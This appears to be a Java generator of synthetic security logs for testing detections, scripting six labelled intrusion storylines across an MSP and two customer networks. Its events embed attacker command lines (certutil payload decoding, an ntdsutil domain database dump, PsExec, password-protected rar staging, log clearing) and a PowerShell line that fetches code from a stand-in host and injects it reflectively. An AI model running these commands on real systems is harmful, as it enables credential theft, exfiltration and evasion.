package io.vigil.scenario;

import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;

/**
 * Storylines S1-S6 of threats.md §4 on the scenario's cast, every event labelled with its storyline, step
 * and the detections that should fire on it. S4's Entra sign-in is recast as a VPN session into BETACO.
 */
final class Storylines {
    // MSP detections (docs/msp-detections.md)
    static final String OUTSIDE_WINDOW = "msp-outside-window";
    static final String UNSANCTIONED = "msp-unsanctioned-source";
    static final String FIRST_SEEN = "msp-first-seen-source";
    static final String CONCURRENT = "msp-concurrent-sessions";
    static final String SHARED = "msp-shared-credential";
    static final String FANOUT = "msp-lateral-fanout";
    static final String COMPROMISED = "msp-compromised-source";
    static final String NO_MFA = "msp-no-mfa";
    static final String CROSS_TENANT = "msp-cross-tenant-artifact";
    static final String CLEAR_AFTER = "msp-log-clear-after-intrusion";
    static final String GAP = "msp-event-gap";
    static final String EGRESS = "msp-egress-after-ingest";
    // SigmaHQ rules (shared/corpus/sigma)
    static final String OFFICE_CHILD = "sigma:438025f9-5856-4663-83f7-52f878a70a50";
    static final String CERTUTIL = "sigma:cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7";
    static final String GUP_SIDELOAD = "sigma:e49b5745-1064-4ac1-9a2e-f687bc2dd37e";
    static final String CLOUD_HOPPER = "sigma:966e4016-627f-44f7-8341-f394905c361f";
    static final String NET_GROUP = "sigma:d95de845-b83c-4a9a-8a6a-4fc802ebf6c0";
    static final String NLTEST = "sigma:5cc90652-4cbd-4241-aa3b-4b462fa5a248";
    static final String PSEXEC_SERVICE = "sigma:42c575ea-e41e-41f1-b248-8093c3e82a28";
    static final String SECRETDUMP = "sigma:252902e3-5830-4cf6-bf21-c22083dfd5cf";
    static final String IMPACKET = "sigma:10c14723-61c7-4c75-92ca-9af245723ad2";
    static final String ATSVC = "sigma:f6de6525-4509-495a-8a82-1f8b0ed73a00";
    static final String NTDSUTIL = "sigma:2afafd61-6aae-4df4-baed-139fa1f4c345";
    static final String RAR_PASSWORD = "sigma:faa48cae-6b25-4f00-a094-08947fef582f";
    static final String SEVENZIP_PASSWORD = "sigma:9fbf5927-5261-4284-a71d-f681029ea574";
    static final String NET_USE_ADMIN = "sigma:3abd6094-7027-475f-9630-8ab9be7b9725";
    static final String SCHTASKS = "sigma:92626ddd-662c-49e3-ac59-f6535f12d189";
    static final String MALICIOUS_CMDLETS = "sigma:89819aa4-bbd6-46bc-88ec-c7f7fe30efa6";
    static final String WEVTUTIL_CLEAR = "sigma:cc36992a-4671-4f21-a91d-6c2b72a2edf5";
    static final String EVENTLOG_CLEARED = "sigma:100ef69e-3327-481c-8e5c-6d80d9507556";
    static final String AUDIT_LOG_CLEARED = "sigma:d99b79d2-0a6f-4f46-ad8b-260b6e17f982";

    /** The side-loaded PlugX DLL of S5: one hash in ACME and, later, in BETACO. */
    static final String PLUGX_DLL_HASHES =
            "MD5=9E4B1A0C7D3F55B2A8C61E0F4D2B7A93,SHA256=4F1C8E7A2B9D06E35C71A8F2D4B09E6C3A5F7D2E1B8C04A96E3D5F7A1C2B8E40,IMPHASH=7D3E1B9A4C2F08E65B1D7A3C9E0F2B48";

    static final String PLUGX_DIR = "C:\\ProgramData\\Corel\\CorelWT\\";
    static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    static final String EXPLORER = "C:\\Windows\\explorer.exe";
    static final String SCRIPT_BLOCK =
            "$b = [System.Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('http://203.0.113.77/u.txt'))\r\n"
                    + "Invoke-ReflectivePEInjection -PEBytes $b -ForceASLR\r\n";

    private final Scenario s;

    Storylines(Scenario s) {
        this.s = s;
    }

    private static Label l(String storyline, int step, String... expect) {
        return new Label(storyline, step, !storyline.equals("S6"), List.of(expect));
    }

    private static Instant t(String iso) {
        return Instant.parse(iso);
    }

    void generate() {
        s1();
        s2();
        s3();
        s4();
        s5();
        s6();
    }

    /** S1: phish t.nguyen on MSP-WS17, then hop into ACME from that workstation two days later at 02:40 New York. */
    private void s1() {
        Host ws17 = s.host("msp", "MSP-WS17");
        Account tn = s.tNguyen;
        String sess = "0x5a3c21";
        String outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
        String word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        String doc =
                "C:\\Users\\t.nguyen\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X4K2P1QZ\\Q4-license-renewal.doc";
        fileCreate(ws17, t("2026-11-09T13:48:05.412Z"), outlook, doc, l("S1", 1));
        s.process(
                ws17,
                t("2026-11-09T13:49:10.118Z"),
                tn,
                sess,
                word,
                "\"" + word + "\" /n \"" + doc + "\" /o \"\"",
                outlook,
                "\"" + outlook + "\"",
                l("S1", 2));
        String decode =
                "cmd.exe /c certutil -decode C:\\Users\\t.nguyen\\AppData\\Local\\Temp\\lic.txt C:\\ProgramData\\SxS\\lic.cab & expand C:\\ProgramData\\SxS\\lic.cab -F:* C:\\ProgramData\\SxS";
        s.process(
                ws17,
                t("2026-11-09T13:49:14.530Z"),
                tn,
                sess,
                CMD,
                decode,
                word,
                "\"" + word + "\" /n \"" + doc + "\"",
                l("S1", 2, OFFICE_CHILD));
        s.process(
                ws17,
                t("2026-11-09T13:49:14.702Z"),
                tn,
                sess,
                "C:\\Windows\\System32\\certutil.exe",
                "certutil  -decode C:\\Users\\t.nguyen\\AppData\\Local\\Temp\\lic.txt C:\\ProgramData\\SxS\\lic.cab",
                CMD,
                decode,
                l("S1", 2, CERTUTIL));
        Instant drop = t("2026-11-09T13:49:16.020Z");
        for (String f : List.of("GUP.exe", "libcurl.dll", "gup.dat")) {
            fileCreate(ws17, drop, "C:\\Windows\\System32\\expand.exe", "C:\\ProgramData\\SxS\\" + f, l("S1", 3));
            drop = drop.plusMillis(180);
        }
        String gup = "C:\\ProgramData\\SxS\\GUP.exe";
        s.process(ws17, t("2026-11-09T13:49:18.300Z"), tn, sess, gup, "\"" + gup + "\"", CMD, decode, l("S1", 3));
        s.event(ws17, Scenario.SYSMON, 7, t("2026-11-09T13:49:18.421Z"))
                .put("RuleName", "-")
                .put(
                        "UtcTime",
                        Scenario.sysmonTime(t("2026-11-09T13:49:18.421Z").plusMillis(ws17.skewMillis())))
                .put("ProcessGuid", s.guid())
                .put("ProcessId", 7312L)
                .put("Image", gup)
                .put("ImageLoaded", "C:\\ProgramData\\SxS\\libcurl.dll")
                .put("Hashes", Scenario.hashes("s1-libcurl-sideload"))
                .put("Signed", "false")
                .put("Signature", "-")
                .put("SignatureStatus", "Unavailable")
                .put("User", tn.toString())
                .label(l("S1", 3, GUP_SIDELOAD));
        s.event(ws17, Scenario.SYSMON, 13, t("2026-11-09T13:49:19.050Z"))
                .put("RuleName", "T1060,RunKey")
                .put("EventType", "SetValue")
                .put(
                        "UtcTime",
                        Scenario.sysmonTime(t("2026-11-09T13:49:19.050Z").plusMillis(ws17.skewMillis())))
                .put("ProcessGuid", s.guid())
                .put("ProcessId", 7312L)
                .put("Image", gup)
                .put("TargetObject", "HKU\\" + tn.sid() + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\GUP")
                .put("Details", gup)
                .put("User", tn.toString())
                .label(l("S1", 3));
        s.connection(ws17, t("2026-11-09T13:49:21.700Z"), gup, tn.toString(), "203.0.113.40", 995, "-", l("S1", 3));

        // step 4: 2026-11-11 02:40 New York = 07:40Z, straight from the MSP workstation
        Host dc = s.host("acme", "DC01");
        Host fs01 = s.host("acme", "FS01");
        Account acct = s.acmeTNguyen;
        Instant hop = t("2026-11-11T07:40:12.204Z");
        s.tgt(dc, hop, acct, ws17.ip(), l("S1", 4, OUTSIDE_WINDOW, UNSANCTIONED, FIRST_SEEN, COMPROMISED));
        s.ticket(dc, hop.plusMillis(310), acct, "FS01$", ws17.ip(), l("S1", 4, UNSANCTIONED));
        rcm1149(
                fs01,
                hop.plusMillis(900),
                acct,
                ws17.ip(),
                l("S1", 4, OUTSIDE_WINDOW, UNSANCTIONED, FIRST_SEEN, COMPROMISED));
        String id = s.logon(
                fs01,
                hop.plusMillis(1700),
                acct,
                10,
                ws17.ip(),
                "MSP-WS17",
                "Negotiate",
                l("S1", 4, OUTSIDE_WINDOW, UNSANCTIONED, FIRST_SEEN, COMPROMISED));
        s.privileges(fs01, hop.plusMillis(1702), acct, id, l("S1", 4));
        lsm(fs01, 21, hop.plusMillis(2300), acct, 3, ws17.ip(), l("S1", 4));
        lsm(fs01, 22, hop.plusMillis(2900), acct, 3, ws17.ip(), l("S1", 4));
        // step 5: discovery and the Cloud Hopper csvde export
        String shell = "\"C:\\Windows\\system32\\cmd.exe\"";
        s.process(
                fs01,
                t("2026-11-11T07:42:30.010Z"),
                acct,
                id,
                CMD,
                shell,
                EXPLORER,
                "C:\\Windows\\Explorer.EXE",
                l("S1", 5));
        s.process(
                fs01,
                t("2026-11-11T07:43:02.115Z"),
                acct,
                id,
                "C:\\Windows\\System32\\net.exe",
                "net  group \"domain admins\" /domain",
                CMD,
                shell,
                l("S1", 5, NET_GROUP));
        s.process(
                fs01,
                t("2026-11-11T07:43:40.871Z"),
                acct,
                id,
                "C:\\Windows\\System32\\nltest.exe",
                "nltest  /dclist:acme.local",
                CMD,
                shell,
                l("S1", 5, NLTEST));
        s.process(
                fs01,
                t("2026-11-11T07:45:12.402Z"),
                acct,
                id,
                "C:\\Windows\\System32\\csvde.exe",
                "csvde -f C:\\windows\\web\\acme.log",
                CMD,
                shell,
                l("S1", 5, CLOUD_HOPPER));
        // step 6: PsExec from FS01 to APP03
        Host app03 = s.host("acme", "APP03");
        s.process(
                fs01,
                t("2026-11-11T07:58:05.333Z"),
                acct,
                id,
                "C:\\Windows\\Temp\\PsExec.exe",
                "C:\\Windows\\Temp\\PsExec.exe \\\\app03.acme.local -accepteula -s cmd.exe",
                CMD,
                shell,
                l("S1", 6));
        String rid = s.logon(
                app03,
                t("2026-11-11T07:58:06.120Z"),
                acct,
                3,
                fs01.ip(),
                "FS01",
                "NTLM",
                l("S1", 6, OUTSIDE_WINDOW, UNSANCTIONED));
        s.privileges(app03, t("2026-11-11T07:58:06.122Z"), acct, rid, l("S1", 6));
        s.share(
                app03,
                t("2026-11-11T07:58:06.540Z"),
                acct,
                rid,
                fs01.ip(),
                "ADMIN$",
                "PSEXESVC.exe",
                "WriteData",
                l("S1", 6));
        s.serviceInstall(
                app03,
                t("2026-11-11T07:58:07.010Z"),
                "PSEXESVC",
                "%SystemRoot%\\PSEXESVC.exe",
                "LocalSystem",
                l("S1", 6, PSEXEC_SERVICE));
        s.logoff(app03, t("2026-11-11T08:06:41.900Z"), acct, rid, 3);
        s.logoff(fs01, t("2026-11-11T08:21:13.000Z"), acct, id, 10);
    }

    /** S2: BETACO\msp_admin from the sanctioned jump host in business hours; Impacket-style harvest. */
    private void s2() {
        Host jump = s.host("msp", "MSP-JMP01");
        Host ws17 = s.host("msp", "MSP-WS17");
        Account admin = s.betaMspAdmin;
        String jsess = s.logon(
                jump, t("2026-11-12T01:20:33.500Z"), s.tNguyen, 10, ws17.ip(), "MSP-WS17", "Negotiate", l("S2", 1));
        s.privileges(jump, t("2026-11-12T01:20:33.504Z"), s.tNguyen, jsess, l("S2", 1));
        Host dc = s.host("betaco", "DC01");
        // t.nguyen is the only technician seated on the jump host: his first use of the shared account (the
        // TGT) is the one that makes it a credential of two technicians (a.kowalski uses it daily)
        s.tgt(dc, t("2026-11-12T01:32:10.002Z"), admin, jump.ip(), l("S2", 1, SHARED));
        // a quick sweep over five hosts with network logons (the fan-out), then the harvest
        Instant sweep = t("2026-11-12T01:33:00.000Z");
        String[] names = {"SRV02", "SRV03", "DC01", "FS01", "APP01"};
        String[] ids = new String[names.length];
        for (int i = 0; i < names.length; i++) {
            Host h = s.host("betaco", names[i]);
            String[] expect = i == names.length - 1 ? new String[] {FANOUT} : new String[0];
            ids[i] = s.logon(
                    h, sweep.plusSeconds(i * 41L), admin, 3, jump.ip(), "MSP-JMP01", "NTLM", l("S2", 2, expect));
        }
        Host srv02 = s.host("betaco", "SRV02");
        s.serviceState(srv02, t("2026-11-12T01:36:12.100Z"), "Remote Registry", "running", l("S2", 2));
        s.share(
                srv02,
                t("2026-11-12T01:36:12.900Z"),
                admin,
                ids[0],
                jump.ip(),
                "IPC$",
                "winreg",
                "ReadData",
                l("S2", 2));
        s.share(
                srv02,
                t("2026-11-12T01:36:14.310Z"),
                admin,
                ids[0],
                jump.ip(),
                "ADMIN$",
                "SYSTEM32\\xk4PqZ2a.tmp",
                "ReadData",
                l("S2", 2, SECRETDUMP));
        Host srv03 = s.host("betaco", "SRV03");
        s.process(
                srv03,
                t("2026-11-12T01:45:03.777Z"),
                admin,
                ids[1],
                CMD,
                "cmd.exe /Q /c tasklist 1> \\\\127.0.0.1\\ADMIN$\\__1718000000.12 2>&1",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                l("S2", 3, IMPACKET));
        // step 4: remote task on DC01 runs an IFM dump, deleted 90 s later
        s.share(
                dc,
                t("2026-11-12T01:52:00.410Z"),
                admin,
                ids[2],
                jump.ip(),
                "IPC$",
                "atsvc",
                "WriteData",
                l("S2", 4, ATSVC));
        String task = "\\xZyQpTfL";
        String ntds = "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\x\" q q";
        s.event(dc, Scenario.SECURITY, 4698, t("2026-11-12T01:52:00.902Z"))
                .put("SubjectUserSid", admin.sid())
                .put("SubjectUserName", admin.user())
                .put("SubjectDomainName", admin.domain())
                .put("SubjectLogonId", ids[2])
                .put("TaskName", task)
                .put(
                        "TaskContent",
                        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Principals><Principal id=\"LocalSystem\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"LocalSystem\"><Exec><Command>cmd.exe</Command><Arguments>/C "
                                + ntds.replace("\"", "&quot;")
                                + " &gt; C:\\Windows\\Temp\\xZyQpTfL.tmp 2&gt;&amp;1</Arguments></Exec></Actions></Task>")
                .label(l("S2", 4));
        s.process(
                dc,
                t("2026-11-12T01:52:02.100Z"),
                Scenario.SYSTEM_ACCOUNT,
                "0x3e7",
                "C:\\Windows\\System32\\ntdsutil.exe",
                ntds,
                CMD,
                "cmd.exe /C " + ntds + " > C:\\Windows\\Temp\\xZyQpTfL.tmp 2>&1",
                l("S2", 4, NTDSUTIL));
        int[] esent = {325, 326, 327};
        for (int i = 0; i < esent.length; i++) {
            s.event(
                            dc,
                            Scenario.APPLICATION,
                            esent[i],
                            t("2026-11-12T01:52:04.000Z").plusSeconds(i * 9L))
                    .put("Data", "ntdsutil (3044,D,0) C:\\Windows\\Temp\\x\\Active Directory\\ntds.dit")
                    .label(l("S2", 4));
        }
        s.event(dc, Scenario.SECURITY, 4699, t("2026-11-12T01:53:31.020Z"))
                .put("SubjectUserSid", admin.sid())
                .put("SubjectUserName", admin.user())
                .put("SubjectDomainName", admin.domain())
                .put("SubjectLogonId", ids[2])
                .put("TaskName", task)
                .label(l("S2", 4));
        // step 5: password-protected, split archive staged in the Recycle Bin
        s.process(
                dc,
                t("2026-11-12T02:05:44.610Z"),
                admin,
                ids[2],
                "C:\\Windows\\Temp\\rar.exe",
                "C:\\Windows\\Temp\\rar.exe a -hpQwe123!@# -v100m C:\\$Recycle.Bin\\" + Scenario.BETACO_SID
                        + "-500\\$RQ1.rar C:\\Windows\\Temp\\x",
                CMD,
                "cmd.exe",
                l("S2", 5, RAR_PASSWORD));
        for (int i = 0; i < names.length; i++) {
            s.logoff(s.host("betaco", names[i]), t("2026-11-12T02:20:00.000Z").plusSeconds(i * 13L), admin, ids[i], 3);
        }
        s.logoff(jump, t("2026-11-12T02:31:09.000Z"), s.tNguyen, jsess, 10);
    }

    /** S3: ACME engineering share staged on FS01, pushed to MSP-JMP01, then out to 203.0.113.55. */
    private void s3() {
        Host fs01 = s.host("acme", "FS01");
        Host fs02 = s.host("acme", "FS02");
        Host ws17 = s.host("msp", "MSP-WS17");
        Host jump = s.host("msp", "MSP-JMP01");
        Account acct = s.acmeTNguyen;
        String id = s.logon(
                fs01,
                t("2026-11-13T06:01:40.300Z"),
                acct,
                10,
                ws17.ip(),
                "MSP-WS17",
                "Negotiate",
                l("S3", 1, OUTSIDE_WINDOW, UNSANCTIONED, COMPROMISED));
        String shell = "\"C:\\Windows\\system32\\cmd.exe\"";
        s.process(
                fs01,
                t("2026-11-13T06:02:15.010Z"),
                acct,
                id,
                "C:\\Windows\\System32\\net.exe",
                "net  use \\\\fs02.acme.local\\Engineering",
                CMD,
                shell,
                l("S3", 1));
        String fid = s.logon(
                fs02,
                t("2026-11-13T06:02:15.420Z"),
                acct,
                3,
                fs01.ip(),
                "FS01",
                "Kerberos",
                l("S3", 1, OUTSIDE_WINDOW, UNSANCTIONED));
        String robo = "robocopy  \\\\fs02.acme.local\\Engineering C:\\$Recycle.Bin\\tmp /E /R:0 /W:0 /NP";
        s.process(
                fs01,
                t("2026-11-13T06:03:01.500Z"),
                acct,
                id,
                "C:\\Windows\\System32\\Robocopy.exe",
                robo,
                CMD,
                shell,
                l("S3", 1));
        Instant read = t("2026-11-13T06:03:02.000Z");
        String[] projects = {"PRJ-4410-Turbine", "PRJ-4522-Gearbox", "PRJ-4630-Housing", "PRJ-4718-Controller"};
        for (int i = 0; i < 4000; i++) {
            String p = projects[i % projects.length];
            String name = String.format(
                    Locale.ROOT,
                    "%s\\Rev%c\\%s-%04d.%s",
                    p,
                    (char) ('A' + (i / 400) % 6),
                    p.substring(0, 8),
                    i,
                    i % 3 == 0 ? "step" : i % 3 == 1 ? "dwg" : "pdf");
            s.share(
                    fs02,
                    read.plusMillis(i * 640L + s.random.nextInt(300)),
                    acct,
                    fid,
                    fs01.ip(),
                    "Engineering",
                    name,
                    "ReadData",
                    l("S3", 1));
        }
        s.logoff(fs02, t("2026-11-13T06:50:00.000Z"), acct, fid, 3);
        // step 2: five password-protected volumes in the Recycle Bin
        String rar = "C:\\$Recycle.Bin\\rar.exe";
        s.process(
                fs01,
                t("2026-11-13T07:10:20.100Z"),
                acct,
                id,
                rar,
                rar + " a -hpEng#2026 -v500m C:\\$Recycle.Bin\\eng.rar C:\\$Recycle.Bin\\tmp",
                CMD,
                shell,
                l("S3", 2, RAR_PASSWORD));
        for (int v = 1; v <= 5; v++) {
            fileCreate(
                    fs01,
                    t("2026-11-13T07:10:25.000Z").plusSeconds(v * 190L),
                    rar,
                    "C:\\$Recycle.Bin\\eng.part" + v + ".rar",
                    l("S3", 2));
        }
        // step 3: SMB copy to the MSP jump host
        String jid = s.logon(
                jump, t("2026-11-13T07:40:02.660Z"), s.tNguyen, 3, fs01.ip(), "FS01", "NTLM", l("S3", 3, UNSANCTIONED));
        s.process(
                fs01,
                t("2026-11-13T07:40:01.900Z"),
                acct,
                id,
                CMD,
                "cmd.exe /c copy C:\\$Recycle.Bin\\eng.part*.rar \\\\10.10.0.21\\C$\\PerfLogs\\",
                CMD,
                shell,
                l("S3", 3));
        for (int v = 1; v <= 5; v++) {
            Instant w = t("2026-11-13T07:40:03.000Z").plusSeconds((v - 1) * 260L);
            s.share(
                    jump,
                    w,
                    s.tNguyen,
                    jid,
                    fs01.ip(),
                    "C$",
                    "PerfLogs\\eng.part" + v + ".rar",
                    "WriteData",
                    l("S3", 3));
            fileCreate(jump, w.plusMillis(40), "System", "C:\\PerfLogs\\eng.part" + v + ".rar", l("S3", 3));
            s.flow(w, fs01.ip(), jump.ip(), 445, v < 5 ? 524_288_000L : 155_189_248L, 255, l("S3", 3));
        }
        s.logoff(jump, t("2026-11-13T08:02:00.000Z"), s.tNguyen, jid, 3);
        s.logoff(fs01, t("2026-11-13T08:05:00.000Z"), acct, id, 10);
        // step 4: egress to 203.0.113.55 over three hours, ~2.1 GB
        String tool = "C:\\PerfLogs\\wuauclt.exe";
        s.dns(jump, t("2026-11-13T09:00:01.200Z"), tool, "anvprn.com", "203.0.113.55", l("S3", 4));
        s.connection(
                jump,
                t("2026-11-13T09:00:01.500Z"),
                tool,
                "MSPCORP\\t.nguyen",
                "203.0.113.55",
                443,
                "anvprn.com",
                l("S3", 4));
        for (int i = 0; i < 36; i++) {
            s.flow(
                    t("2026-11-13T09:00:02Z").plusSeconds(i * 300L),
                    jump.ip(),
                    "203.0.113.55",
                    443,
                    58_330_000L + s.random.nextInt(400_000),
                    300,
                    l("S3", 4, EGRESS));
        }
    }

    /** S4: t.nguyen in the office while his identity signs in to both tenants from 203.0.113.77 without MFA. */
    private void s4() {
        Instant vpnB = t("2026-11-17T14:12:07Z");
        s.vpn(
                "betaco",
                vpnB,
                t("2026-11-17T14:48:40Z"),
                Scenario.TOKYO,
                // the Entra sign-in stand-in: with GDAP the technician signs in to the customer with his own
                // MSP identity (crossTenantAccessType serviceProvider), not a BETACO account
                "t.nguyen@mspcorp.local",
                "203.0.113.77",
                "10.30.250.77",
                "none",
                l("S4", 2, OUTSIDE_WINDOW, UNSANCTIONED, FIRST_SEEN, CONCURRENT, NO_MFA));
        Instant vpnA = t("2026-11-17T14:15:31Z");
        s.vpn(
                "acme",
                vpnA,
                t("2026-11-17T14:52:02Z"),
                Scenario.NEW_YORK,
                "msp-tnguyen",
                "203.0.113.77",
                "10.20.250.77",
                "none",
                l("S4", 3, OUTSIDE_WINDOW, UNSANCTIONED, FIRST_SEEN, CONCURRENT, NO_MFA));
        remoting(s.host("acme", "APP01"), s.acmeTNguyen, "10.20.250.77", t("2026-11-17T14:20:14.300Z"), false);
        remoting(s.host("betaco", "APP01"), s.betaMspAdmin, "10.30.250.77", t("2026-11-17T14:31:52.800Z"), true);
    }

    private void remoting(Host h, Account acct, String ip, Instant t, boolean secondTenant) {
        String id = s.logon(h, t, acct, 3, ip, "-", "Kerberos", l("S4", 4, OUTSIDE_WINDOW, UNSANCTIONED));
        s.privileges(h, t.plusMillis(2), acct, id, l("S4", 4));
        s.process(
                h,
                t.plusMillis(900),
                acct,
                id,
                "C:\\Windows\\System32\\wsmprovhost.exe",
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                l("S4", 4));
        String[] expect =
                secondTenant ? new String[] {MALICIOUS_CMDLETS, CROSS_TENANT} : new String[] {MALICIOUS_CMDLETS};
        s.event(h, Scenario.POWERSHELL, 4104, t.plusSeconds(14))
                .put("MessageNumber", "1")
                .put("MessageTotal", "1")
                .put("ScriptBlockText", SCRIPT_BLOCK)
                .put("ScriptBlockId", s.guid().substring(1, 37).toLowerCase(Locale.ROOT))
                .put("Path", "")
                .label(l("S4", 4, expect));
        s.logoff(h, t.plusSeconds(600 + s.random.nextInt(300)), acct, id, 3);
    }

    /** S5: PlugX service on the missed ACME-WS22, log clearing and a forwarding gap, then the DLL in BETACO. */
    private void s5() {
        Host dc = s.host("acme", "DC01");
        s.event(dc, Scenario.SECURITY, 4724, t("2026-11-15T15:02:44.010Z"))
                .put("TargetUserName", s.acmeTNguyen.user())
                .put("TargetDomainName", "ACME")
                .put("TargetSid", s.acmeTNguyen.sid())
                .put("SubjectUserSid", s.acmeAdmin.sid())
                .put("SubjectUserName", s.acmeAdmin.user())
                .put("SubjectDomainName", "ACME")
                .put("SubjectLogonId", "0x3a1f27")
                .label(l("S5", 1));
        Host ws22 = s.host("acme", "WS22");
        String exe = PLUGX_DIR + "WTUtilities.exe";
        String dll = PLUGX_DIR + "WTLocalize.dll";
        fileCreate(ws22, t("2026-11-05T18:21:40.100Z"), "C:\\Windows\\System32\\svchost.exe", dll, l("S5", 2));
        s.serviceInstall(
                ws22,
                t("2026-11-05T18:22:03.501Z"),
                "Corel Writing Tools Utility",
                "\"" + exe + "\" -service",
                "LocalSystem",
                l("S5", 2));
        sideLoad(ws22, t("2026-11-05T18:22:04.220Z"), exe, dll, l("S5", 2));
        // D+3: boot, beacon, clearing, silence
        s.serviceState(ws22, t("2026-11-18T11:02:10.000Z"), "Corel Writing Tools Utility", "running", l("S5", 3));
        sideLoad(ws22, t("2026-11-18T11:02:11.400Z"), exe, dll, l("S5", 3));
        s.dns(ws22, t("2026-11-18T11:02:30.120Z"), exe, "anycal1.com", "203.0.113.40", l("S5", 3));
        s.connection(
                ws22,
                t("2026-11-18T11:02:30.410Z"),
                exe,
                "NT AUTHORITY\\SYSTEM",
                "203.0.113.40",
                443,
                "anycal1.com",
                l("S5", 3));
        String wevt = "wevtutil  cl Microsoft-Windows-PowerShell/Operational";
        s.process(
                ws22,
                t("2026-11-18T11:20:05.900Z"),
                Scenario.SYSTEM_ACCOUNT,
                "0x3e7",
                "C:\\Windows\\System32\\wevtutil.exe",
                wevt,
                CMD,
                "cmd.exe /c " + wevt,
                l("S5", 3, WEVTUTIL_CLEAR));
        WinEvent cleared = s.event(ws22, Scenario.SYSTEM, 104, t("2026-11-18T11:20:06.200Z"))
                .put("SubjectUserName", "SYSTEM")
                .put("SubjectDomainName", "NT AUTHORITY")
                .put("Channel", "Microsoft-Windows-PowerShell/Operational")
                .put("BackupPath", "")
                .label(l("S5", 3, EVENTLOG_CLEARED, CLEAR_AFTER));
        cleared.userDataElement = "LogFileCleared";
        WinEvent audit = s.event(ws22, Scenario.SECURITY, 1102, t("2026-11-18T11:24:51.700Z"))
                .put("SubjectUserSid", "S-1-5-18")
                .put("SubjectUserName", "WS22$")
                .put("SubjectDomainName", "ACME")
                .put("SubjectLogonId", "0x3e7")
                .label(l("S5", 3, AUDIT_LOG_CLEARED, CLEAR_AFTER));
        audit.userDataElement = "LogFileCleared";
        Instant from = t("2026-11-18T11:30:00Z");
        Instant to = from.plus(Duration.ofHours(6));
        s.gaps.add(new PlannedGap("WS22", "acme", from, to, 2317));
        s.process(
                ws22,
                to.plusSeconds(5),
                Scenario.SYSTEM_ACCOUNT,
                "0x3e7",
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                "C:\\Windows\\System32\\services.exe",
                "C:\\Windows\\system32\\services.exe",
                l("S5", 3, GAP));
        s.serviceState(ws22, to.plusSeconds(6), "Windows Update", "running", l("S5", 3, GAP));
        // D+4: the same DLL on BETACO FS01
        Host bfs = s.host("betaco", "FS01");
        s.serviceInstall(
                bfs,
                t("2026-11-19T03:10:44.000Z"),
                "Corel Writing Tools Utility",
                "\"" + exe + "\" -service",
                "LocalSystem",
                l("S5", 4));
        sideLoad(bfs, t("2026-11-19T03:10:45.300Z"), exe, dll, l("S5", 4, CROSS_TENANT));
    }

    private void sideLoad(Host h, Instant t, String exe, String dll, Label label) {
        s.event(h, Scenario.SYSMON, 7, t)
                .put("RuleName", "-")
                .put("UtcTime", Scenario.sysmonTime(t.plusMillis(h.skewMillis())))
                .put("ProcessGuid", s.guid())
                .put("ProcessId", (long) (1000 + s.random.nextInt(9000)))
                .put("Image", exe)
                .put("ImageLoaded", dll)
                .put("FileVersion", "-")
                .put("Description", "-")
                .put("Hashes", PLUGX_DLL_HASHES)
                .put("Signed", "false")
                .put("Signature", "-")
                .put("SignatureStatus", "Unavailable")
                .put("User", "NT AUTHORITY\\SYSTEM")
                .label(label);
    }

    /** S6: the sanctioned Saturday maintenance under CHG-2041 (benign; single-event hits must be lowered). */
    private void s6() {
        Host jump = s.host("msp", "MSP-JMP01");
        Host mspDc = s.host("msp", "MSP-DC01");
        Host dc = s.host("acme", "DC01");
        Account tn = s.tNguyen;
        Account acct = s.acmeTNguyen;
        Instant open = t("2026-11-15T00:56:10Z");
        s.vpn(
                "msp",
                open,
                t("2026-11-15T04:18:00Z"),
                ZoneOffset.UTC,
                "MSPCORP\\t.nguyen",
                "192.0.2.17",
                "10.10.200.17",
                "success",
                l("S6", 1));
        s.tgt(mspDc, open.plusSeconds(35), tn, "10.10.200.17", l("S6", 1));
        String jid = s.logon(jump, open.plusSeconds(50), tn, 10, "10.10.200.17", "TN-LAPTOP", "Negotiate", l("S6", 1));
        s.privileges(jump, open.plusSeconds(50), tn, jid, l("S6", 1));
        s.tgt(dc, t("2026-11-15T01:02:00.300Z"), acct, jump.ip(), l("S6", 1));
        // step 2: the patch pushed with PsExec to 40 hosts
        List<Host> targets =
                s.hosts("acme").stream().filter(h -> !h.name().equals("DC01")).toList();
        Instant push = t("2026-11-15T01:05:00Z");
        for (Host h : targets) {
            String cmd = "C:\\Tools\\PsExec.exe \\\\" + h.computer()
                    + " -accepteula -s -c C:\\Patches\\KB5046612-install.cmd";
            s.process(
                    jump,
                    push,
                    tn,
                    jid,
                    "C:\\Tools\\PsExec.exe",
                    cmd,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -File C:\\Patches\\push.ps1",
                    l("S6", 2));
            s.ticket(dc, push.plusMillis(200), acct, h.machineAccount(), jump.ip(), l("S6", 2));
            String id = s.logon(h, push.plusMillis(600), acct, 3, jump.ip(), "MSP-JMP01", "Kerberos", l("S6", 2));
            s.privileges(h, push.plusMillis(602), acct, id, l("S6", 2));
            s.share(h, push.plusMillis(900), acct, id, jump.ip(), "ADMIN$", "PSEXESVC.exe", "WriteData", l("S6", 2));
            s.serviceInstall(
                    h,
                    push.plusMillis(1400),
                    "PSEXESVC",
                    "%SystemRoot%\\PSEXESVC.exe",
                    "LocalSystem",
                    l("S6", 2, PSEXEC_SERVICE));
            s.logoff(h, push.plusSeconds(95), acct, id, 3);
